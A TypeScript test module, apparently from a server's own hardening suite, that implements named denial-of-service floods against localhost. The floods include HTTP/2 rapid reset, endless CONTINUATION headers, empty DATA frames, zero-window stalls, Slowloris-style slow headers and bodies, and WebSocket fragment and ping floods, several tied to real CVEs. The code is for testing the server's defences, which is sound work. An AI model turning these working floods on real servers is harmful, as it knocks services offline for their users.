// Floods by name; each runs until the server ends it and resolves to how it did.

import { once } from 'node:events'
import net from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { WebSocket } from 'ws'
import { webSocketFrame } from '../load/lean-http.ts'
import { contentOf } from './contract-client.ts'
import {
  connectTls,
  fieldBlock,
  frames,
  maxWindow,
  openRawHttp2,
  type RawEnding,
  type RawHttp2,
  requestFields,
  settings,
  streamAt,
} from './raw-http2.ts'

export interface Target {
  readonly '2': number
  readonly '1.1': number
  readonly isApplication: boolean
}

const slowMs = 100

export const floods = {
  /** Opens and cancels streams (CVE-2023-44487). */
  async 'rapid reset'({ '2': port }) {
    const block = fieldBlock(requestFields('/api/stream?window=reset&channels=main'))
    return floodStreams(await openRawHttp2(port), 100, (stream) => [
      frames.headers(stream, block),
      frames.cancel(stream),
    ])
  },
  /** Opens far more event streams than the settings permit. */
  async 'thousands of streams'({ '2': port }) {
    return floodStreams(await openRawHttp2(port), 100, (stream) => [
      frames.request(stream, `/api/stream?window=many${stream}&channels=main`),
    ])
  },
  /** An endless header block (CVE-2024-27316). */
  async 'headers that never end'({ '2': port }) {
    const raw = await openRawHttp2(port)
    const first = frames.headers(1, fieldBlock(requestFields('/')), { endsHeaders: false, endsStream: false })
    await raw.send(first)
    return repeat(raw, frames.continuation(1, fieldBlock([['x-more', 'x'.repeat(8000)]]), false), 1)
  },
  /** Complete header blocks of 1 MB. */
  async 'huge headers'({ '2': port }) {
    const more = fieldBlock([['x-more', 'x'.repeat(16_000)]])
    return floodStreams(await openRawHttp2(port), 1, (stream) => [
      frames.headers(stream, fieldBlock(requestFields('/healthz')), { endsHeaders: false }),
      ...Array.from({ length: 62 }, () => frames.continuation(stream, more, false)),
      frames.continuation(stream, more, true),
    ])
  },
  'SETTINGS, read': async ({ '2': port }) => repeat(await openRawHttp2(port), someSettings),
  'SETTINGS, unread': async ({ '2': port }) => repeat(await openUnread(port), someSettings),
  'PING, read': async ({ '2': port }) => repeat(await openRawHttp2(port), frames.ping()),
  'PING, unread': async ({ '2': port }) => repeat(await openUnread(port), frames.ping()),
  /** DATA frames without payload (CVE-2019-9518). */
  'DATA without data': async ({ '2': port }) => repeat(await openPost(port), frames.data(1, '')),
  'streams without a window': ({ '2': port }) =>
    zeroWindow(port, 60, (stream) => `/api/stream?window=zero${stream}&channels=main`),
  'pages without a window': ({ '2': port }) => zeroWindow(port, 200, () => '/'),
  /** Grants the largest windows, opens streams of a busy channel and stops reading. */
  async 'a reader that stops'({ '2': port, isApplication }) {
    const raw = await openRawHttp2(port, settings.initialWindowSize(maxWindow))
    await raw.send(frames.windowUpdate(maxWindow - 65_535))
    await raw.send(...requests(20, (stream) => `/api/stream?window=stopped${stream}&channels=loud`))
    raw.stopReading()
    const author = await openRawHttp2(port)
    const content = contentOf(isApplication, 'x'.repeat(12_000))
    for (let index = 0; await raw.send(frames.ping()); index += 1) {
      const stream = streamAt(index)
      const draft = { id: `loud-${index}`, channel: 'loud', from: 'loud', at: 1, ...content }
      await author.send(postHeaders(stream), frames.data(stream, JSON.stringify(draft), true))
      // Slower than a window's message rate, so that the channel stays busy.
      await delay(10)
    }
    author.close()
    return raw.ended
  },
  /** A body of single bytes. The server resets the stream and keeps the connection. */
  'a slow body, HTTP/2': async ({ '2': port }) =>
    untilReset(await openPost(port), frames.data(1, ' '), slowMs),
  'a slow body, HTTP/1.1': async ({ '1.1': port }) =>
    trickle(await talk(port, [...postLines, 'Content-Length: 5000', '', '{']), ' '),
  /** Continues a refused body while the stream is open. */
  async 'a body without an end, HTTP/2'({ '2': port }) {
    const raw = await openPost(port)
    await raw.sendBody(1, 16_000)
    raw.close()
    return raw.soFar()
  },
  async 'a body without an end, HTTP/1.1'({ '1.1': port }) {
    const socket = await talk(port, [...postLines, 'Transfer-Encoding: chunked', '', ''])
    const chunk = Buffer.from(`4000\r\n${'x'.repeat(0x4000)}\r\n`)
    pour(socket, () => chunk)
    return endOf(socket)
  },
  'slow headers, HTTP/1.1': ({ '1.1': port }) => slowHeaders(port),
  'slow headers, HTTP/1.1 on the port of HTTP/2': ({ '2': port }) => slowHeaders(port),
  'a handshake that never ends': ({ '2': port }) => endOf(bareSocket(port, handshake)),
  'a handshake that trickles': ({ '1.1': port }) => trickle(bareSocket(port, handshake), '\0'),
  'a silent session': async ({ '2': port }) => endOf(await connectTls(port, 'h2')),
  'a silent connection': async ({ '1.1': port }) => endOf(await connectTls(port)),
  garbage: ({ '2': port }) => endOf(bareSocket(port, Buffer.alloc(4096, 'garbage '))),
  'WebSocket fragments': ({ '1.1': port }) => {
    const first = webSocketFrame('a', 'text', false)
    return webSocketFlood(port, webSocketFrame('a', 'continuation', false), first)
  },
  'WebSocket pings, read': ({ '1.1': port }) => pingFlood(port),
  'WebSocket pings, unread': ({ '1.1': port }) => pingFlood(port, { isReading: false }),
  /** Throttled to a window's message rate, in bursts of one second; ends with the 500th refusal. */
  async 'WebSocket frames that are none'({ '1.1': port }): Promise<SlowedEnding> {
    const { socket, bare } = await openWebSocket(port)
    const startedAt = performance.now()
    pourCopies(bare, webSocketFrame('{'))
    let answers = 0
    await new Promise<void>((resolve) => {
      socket.on('message', (data) => {
        if (String(data).includes('refused')) answers += 1
        if (answers === 500) resolve()
      })
      socket.once('close', () => resolve())
    })
    return endSlowed(socket, answers, startedAt)
  },
  /** Each join replaces the window's older stream. */
  async 'a window that joins again and again'({ '2': port }) {
    let ending: RawEnding | null = null
    for (let round = 0; round < 4; round += 1) {
      const raw = await openRawHttp2(port)
      await raw.send(...requests(100, () => '/api/stream?window=again&channels=main'))
      await raw.answered(100)
      raw.close()
      ending = raw.soFar()
    }
    return ending
  },
} as const satisfies Readonly<Record<string, (target: Target) => Promise<unknown>>>

export type FloodName = keyof typeof floods

// HTTP/2: each resolves to the end of its session or stream.

const someSettings = frames.settings(settings.maxConcurrentStreams(100))

async function openUnread(port: number): Promise<RawHttp2> {
  const raw = await openRawHttp2(port)
  raw.stopReading()
  return raw
}

function postHeaders(stream: number): Buffer {
  const fields = requestFields('/api/messages', 'POST', ['content-type', 'application/json'])
  return frames.headers(stream, fieldBlock(fields), { endsStream: false })
}

/** With a POST whose body has not begun. */
async function openPost(port: number): Promise<RawHttp2> {
  const raw = await openRawHttp2(port)
  await raw.send(postHeaders(1))
  return raw
}

async function repeat(raw: RawHttp2, frame: Buffer, atOnce = 500): Promise<RawEnding> {
  const many = Buffer.concat(Array.from({ length: atOnce }, () => frame))
  while (await raw.send(many));
  return raw.ended
}

async function floodStreams(
  raw: RawHttp2,
  atOnce: number,
  framesOf: (stream: number) => readonly Buffer[],
): Promise<RawEnding> {
  const next = (index: number) =>
    Array.from({ length: atOnce }, (_, more) => framesOf(streamAt(index + more))).flat()
  for (let index = 0; await raw.send(...next(index)); index += atOnce);
  return raw.ended
}

function requests(count: number, path: (stream: number) => string): Buffer[] {
  const streams = Array.from({ length: count }, (_, index) => streamAt(index))
  return streams.map((stream) => frames.request(stream, path(stream)))
}

/** Grants no flow-control window: every response waits in the server. */
async function zeroWindow(port: number, count: number, path: (stream: number) => string): Promise<RawEnding> {
  const raw = await openRawHttp2(port, settings.initialWindowSize(0))
  for (const request of requests(count, path)) await raw.send(request)
  return raw.ended
}

async function untilReset(raw: RawHttp2, frame: Buffer, everyMs: number): Promise<RawEnding> {
  while (Object.keys(raw.soFar().resets).length === 0 && (await raw.send(frame))) await delay(everyMs)
  raw.close()
  return raw.soFar()
}

// TCP, TLS and HTTP/1.1: each resolves to the text received.

const postLines = ['POST /api/messages HTTP/1.1', 'Host: localhost', 'Content-Type: application/json']

/** The beginning of a TLS record (content type 22). */
const handshake = Buffer.from([22, 3, 1, 2, 0, 1])

function bareSocket(port: number, bytes: Buffer): net.Socket {
  const socket = net.connect({ port, host: '127.0.0.1' })
  socket.write(bytes)
  return socket
}

async function talk(port: number, lines: readonly string[]): Promise<net.Socket> {
  const socket = await connectTls(port)
  socket.write(lines.join('\r\n'))
  return socket
}

/** Slowloris: header lines without an end. */
async function slowHeaders(port: number): Promise<string> {
  return trickle(await talk(port, ['GET /healthz HTTP/1.1', 'Host: localhost', '']), 'x-slow: 1\r\n')
}

async function trickle(socket: net.Socket, text: string): Promise<string> {
  const timer = setInterval(() => socket.writable && socket.write(text), slowMs)
  const answer = await endOf(socket)
  clearInterval(timer)
  return answer
}

async function endOf(socket: net.Socket): Promise<string> {
  let answer = ''
  socket.on('error', () => undefined)
  socket.setEncoding('latin1').on('data', (text) => {
    answer += text
  })
  if (!socket.destroyed) await new Promise((resolve) => socket.once('close', resolve))
  return answer
}

/** Writes as fast as the connection takes it. */
export function pour(socket: net.Socket, next: () => Buffer): void {
  const more = () => {
    while (socket.writable) if (!socket.write(next())) return
  }
  // Many writes that complete at once, over TLS, would otherwise keep timers from running.
  socket.on('drain', () => setImmediate(more))
  more()
}

export function pourCopies(socket: net.Socket, frame: Buffer): void {
  const thousand = Buffer.concat(Array.from({ length: 1000 }, () => frame))
  pour(socket, () => thousand)
}

// WebSocket.

/** Sends `first`, then `frame` endlessly; resolves to the close code. */
async function webSocketFlood(port: number, frame: Buffer, first: Buffer): Promise<number> {
  const { socket, bare } = await openWebSocket(port)
  const closed = once(socket, 'close')
  bare.write(first)
  pourCopies(bare, frame)
  const [code] = await closed
  return code
}

/** PINGs for two seconds: the server reads them at a window's message rate, and keeps the connection. */
async function pingFlood(port: number, { isReading = true } = {}): Promise<SlowedEnding> {
  const { socket, bare } = await openWebSocket(port)
  const startedAt = performance.now()
  let answers = 0
  socket.on('pong', () => {
    answers += 1
  })
  if (!isReading) bare.pause()
  pourCopies(bare, webSocketFrame('', 'ping'))
  await delay(2000)
  if (!isReading) bare.resume()
  if (answers === 0) await once(socket, 'pong')
  return endSlowed(socket, answers, startedAt)
}

export interface SlowedEnding {
  readonly answers: number
  /** Since the first frame. */
  readonly tookMs: number
  readonly isOpen: boolean
}

function endSlowed(socket: WebSocket, answers: number, startedAt: number): SlowedEnding {
  const tookMs = performance.now() - startedAt
  const isOpen = socket.readyState === socket.OPEN
  socket.terminate()
  return { answers, tookMs, isOpen }
}

/** Exposes the bare socket: the library would not send such frames. */
async function openWebSocket(port: number): Promise<{ socket: WebSocket; bare: net.Socket }> {
  const address = `wss://localhost:${port}/api/socket?window=flood&channels=flood`
  const socket = new WebSocket(address, { rejectUnauthorized: false })
  socket.on('error', () => undefined)
  await once(socket, 'open')
  return { socket, bare: (socket as unknown as { _socket: net.Socket })._socket }
}
